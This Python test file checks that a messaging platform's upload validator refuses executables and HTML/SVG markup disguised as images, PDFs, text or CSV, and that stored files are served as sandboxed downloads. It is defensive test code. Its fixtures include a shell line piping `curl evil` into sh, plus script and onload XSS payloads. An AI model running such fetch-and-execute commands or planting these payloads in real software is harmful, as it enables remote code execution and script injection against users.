"""Upload type sniffing (core/uploads.py) at every place a file comes in from a person: the API's
attachments, the composer, a quick reply's file, the website widget's visitor, a knowledge
document and a campaign's recipient list. An executable, or HTML/SVG markup, in disguise is
refused with a 422 naming the file field, and nothing is stored; a real file of the same name and
type still goes through. And files are served back as downloads (or sandboxed inline images and
PDFs) with ``nosniff``.
"""

from __future__ import annotations

import re
import uuid

import pytest
from sqlalchemy import func, select

from invekto.channels import service as channels
from invekto.channels.schemas import ChannelCreate
from invekto.core import uploads
from invekto.core.errors import ValidationFailed
from invekto.inbox import service as inbox
from invekto.inbox.models import Attachment
from tests.widget.visitor import CONSENT, PNG, SITE, Widget

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
HTML_PAGE = b"<!DOCTYPE html><html><body><script>window.__xss=1</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><rect/></svg>'
XML_SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"

# (what it is, its bytes, the name and type it claims)
DISGUISES = [
    ("html-as-png", HTML_PAGE, "rontgen.png", "image/png"),
    ("svg-as-jpeg", SVG, "foto.jpg", "image/jpeg"),
    ("svg-xml-as-pdf", XML_SVG, "fatura.pdf", "application/pdf"),
    ("exe-as-pdf", PE, "fatura.pdf", "application/pdf"),
    ("elf-as-png", ELF, "resim.png", "image/png"),
    ("script-as-text", SCRIPT, "not.txt", "text/plain"),
    ("html-as-csv", b"  <HTML><BODY>ad,telefon", "liste.csv", "text/csv"),
]


@pytest.mark.parametrize(("data", "expected"), [
    (PNG, None), (PDF, None), (b"ad,telefon\nAyla,+905321112233\n", None),
    (b"MZ Turizm,+905321112233\n", None),  # text that merely starts like an .exe
    (b'<?xml version="1.0"?><rows><r/></rows>', None),  # data, not a page
    (b"PK\x03\x04" + b"\x00" * 40, None),  # a ZIP, an Office file
    (HTML_PAGE, "markup"), (SVG, "markup"), (XML_SVG, "markup"),
    (b"\xef\xbb\xbf\n<!-- x -->", "markup"), (b"<p>Merhaba", "markup"),
    (PE, "executable"), (ELF, "executable"), (SCRIPT, "executable"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 40, "executable"),  # Mach-O
])
def test_sniff(data, expected):
    assert uploads.sniff(data) == expected


@pytest.mark.parametrize(("name", "declared", "data", "refused"), [
    ("sayfa.html", "text/html", HTML_PAGE, False),  # says what it is: the site's list decides
    ("logo.svg", "image/svg+xml", SVG, False),
    ("kurulum.exe", "application/x-msdownload", PE, False),
    ("program", "application/octet-stream", ELF, False),
    ("sayfa.html", "image/png", HTML_PAGE, True),  # the type claims otherwise
    ("fatura.pdf", "text/html", HTML_PAGE, True),  # the name claims otherwise
    ("fatura.pdf", "application/octet-stream", PE, True),
    ("fatura.pdf", "application/pdf", PDF, False),
])
def test_a_file_may_be_what_it_says(name, declared, data, refused):
    if refused:
        with pytest.raises(ValidationFailed) as caught:
            uploads.check(name, declared, data, field="belge")
        assert (caught.value.field, caught.value.code) == ("belge", "file_content_refused")
    else:
        uploads.check(name, declared, data)


async def attachments(company) -> int:
    async with company.rt.db.tenant_session(company.tenant_id) as session:
        return await session.scalar(select(func.count()).select_from(Attachment))


def refused_for_its_content(response) -> None:
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert (error["field"], error["code"]) == ("file", "file_content_refused"), error


@pytest.mark.parametrize(("what", "data", "name", "declared"), DISGUISES,
                         ids=[d[0] for d in DISGUISES])
async def test_api_attachment_refuses_a_disguised_file(world, what, data, name, declared):
    home = world.home
    response = await home.bora.client.post("/api/v1/attachments",
                                           files={"file": (name, data, declared)})
    refused_for_its_content(response)
    assert await attachments(home) == 0


async def test_api_attachment_takes_real_files(world):
    home = world.home
    for name, data, declared in [("rontgen.png", PNG, "image/png"),
                                 ("fatura.pdf", PDF, "application/pdf"),
                                 ("liste.csv", b"ad,telefon\n", "text/csv")]:
        response = await home.bora.client.post("/api/v1/attachments",
                                               files={"file": (name, data, declared)})
        assert response.status_code == 201, response.text
    assert await attachments(home) == 3


async def test_composer_refuses_a_disguised_image(world):
    home = world.home
    message = await home.inbound("Röntgeninizi gönderir misiniz?")
    path = f"/inbox/c/{message.conversation_id}/messages"
    refused_for_its_content(await home.bora.client.post(
        path, data={"body": "Ektedir"}, files={"file": ("rontgen.png", HTML_PAGE, "image/png")}))
    assert await attachments(home) == 0
    sent = await home.bora.client.post(path, data={"body": "Ektedir"},
                                       files={"file": ("rontgen.png", PNG, "image/png")})
    assert sent.status_code == 200, sent.text
    assert await attachments(home) == 1


async def test_quick_reply_refuses_a_disguised_file(world):
    home = world.home
    response = await home.ayla.client.post(
        "/settings/quick-replies", data={"shortcut": "fiyat", "body": "Fiyat listemiz ektedir"},
        files={"file": ("fiyatlar.pdf", PE, "application/pdf")})
    refused_for_its_content(response)
    assert await attachments(home) == 0


async def test_widget_visitor_cannot_upload_a_disguised_file(world, client):
    home = world.home
    async with home.rt.db.tenant_session(home.tenant_id) as session:
        channel = await channels.create_channel(session, home.system, ChannelCreate(
            kind="webchat", name="Web sitesi", settings={
                "allowed_origins": SITE, "consent_text": CONSENT}))
    widget = Widget(client, channel.id)
    await widget.start()
    refused = await widget.post("/files", data={"client_id": str(uuid.uuid4()), "caption": ""},
                                files={"file": ("dis.png", SVG, "image/png")})
    refused_for_its_content(refused)
    assert await attachments(home) == 0
    taken = await widget.post("/files", data={"client_id": str(uuid.uuid4()), "caption": ""},
                              files={"file": ("dis.png", PNG, "image/png")})
    assert taken.status_code == 201, taken.text


async def test_knowledge_document_refuses_a_disguised_file(world):
    home = world.home
    response = await home.ayla.client.post(
        "/api/v1/kb/documents", files={"file": ("sss.pdf", ELF, "application/pdf")})
    refused_for_its_content(response)
    page = await home.ayla.client.post(
        "/settings/knowledge/documents", files={"file": ("sss.txt", HTML_PAGE, "text/plain")})
    assert page.status_code == 422  # the page again, the reason (naming "TXT") by the input
    assert re.search(r'class="invalid-feedback[^"]*"[^>]*>[^<]*TXT', page.text), page.text
    assert (await home.ayla.client.get("/api/v1/kb/documents")).json() == []


async def test_recipient_list_refuses_a_disguised_file(world):
    home = world.home
    response = await home.ayla.client.post(
        "/api/v1/recipient-lists", data={"name": "Liste"},
        files={"file": ("liste.csv", b"<html><body>ad,telefon", "text/csv")})
    refused_for_its_content(response)
    taken = await home.ayla.client.post(
        "/api/v1/recipient-lists", data={"name": "Liste"},
        files={"file": ("liste.csv", b"ad,telefon\nAyla,+905321112233\n", "text/csv")})
    assert taken.status_code == 201, taken.text


# ---- serving files back ------------------------------------------------------------------------

async def store(company, filename: str, content_type: str, data: bytes) -> uuid.UUID:
    """As a channel delivers a customer's file: any type their app sent, unchecked."""
    async with company.rt.db.tenant_session(company.tenant_id) as session:
        attachment = await inbox.store_attachment(
            session, company.system, company.rt.storage, filename=filename,
            content_type=content_type, data=data, max_bytes=1024 * 1024)
    return attachment.id


@pytest.mark.parametrize(("name", "declared", "data", "inline"), [
    ("rontgen.png", "image/png", PNG, True),
    ("fatura.pdf", "application/pdf", PDF, True),
    ("sayfa.html", "text/html", HTML_PAGE, False),
    ("logo.svg", "image/svg+xml", SVG, False),
    ("not.txt", "text/plain", b"merhaba", False),
])
async def test_files_are_served_as_downloads_or_sandboxed(world, name, declared, data, inline):
    home = world.home
    attachment_id = await store(home, name, declared, data)
    page = await home.ayla.client.get(f"/inbox/media/{attachment_id}")
    api = await home.ayla.client.get(f"/api/v1/attachments/{attachment_id}")
    for response in (page, api):
        assert response.status_code == 200
        assert response.content == data
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"] == "sandbox"
    disposition = page.headers["content-disposition"]
    assert disposition.startswith("inline;" if inline else "attachment;")
    if not inline:  # never the declared type: a browser could only save it
        assert page.headers["content-type"] == "application/octet-stream"
    assert api.headers["content-disposition"].startswith("attachment;")
